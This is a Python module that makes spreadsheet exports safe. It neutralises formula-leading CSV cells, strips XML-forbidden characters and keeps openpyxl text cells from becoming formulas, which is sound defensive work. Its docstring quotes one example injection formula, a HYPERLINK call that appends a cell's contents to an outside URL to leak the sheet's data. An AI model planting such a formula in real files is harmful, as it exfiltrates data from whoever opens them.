"""Cells that are safe to open in a spreadsheet: no formula runs, no character breaks the file.

Respondents' words and metadata end up in CSV files and workbooks that evaluators open in Excel or
LibreOffice. A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run
as a formula there (``=HYPERLINK("http://…?leak="&A1)`` sends the sheet's data away), so CSV text
cells that start so get a leading apostrophe, OWASP's CSV-injection rule; headers count as cells
(a code label or college name is a matrix column). Numbers stay numbers: a negative number (or a
text that is just a number, like "-2") is not a formula. Workbooks store every text cell as a
string, never as a formula, and drop the characters XML 1.0 cannot hold at all (control
characters, U+FFFE, U+FFFF, lone surrogates); without that one stray character makes the whole
export fail.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)(?:[eE][+-]?\d+)?")
_XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def inert(value: object) -> object:
    """A CSV cell that no spreadsheet runs as a formula; non-text values are returned as is."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell and every header made inert (see ``inert``)."""
    return frame.rename(columns=inert).map(inert)


def xml_safe(value: object) -> object:
    """Text without the characters an XLSX file (XML 1.0) cannot contain."""
    if isinstance(value, str):
        return _XML_FORBIDDEN.sub("", value)
    return value


def workbook_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with its text cells and headers fit for a workbook (``xml_safe``)."""
    return frame.rename(columns=xml_safe).map(xml_safe)


def mark_text(sheet) -> None:  # sheet: an openpyxl Worksheet
    """Every string cell of the sheet, header row included, as text: openpyxl would otherwise
    store a value that starts with "=" as a formula."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.data_type == "f":
                cell.data_type = "s"
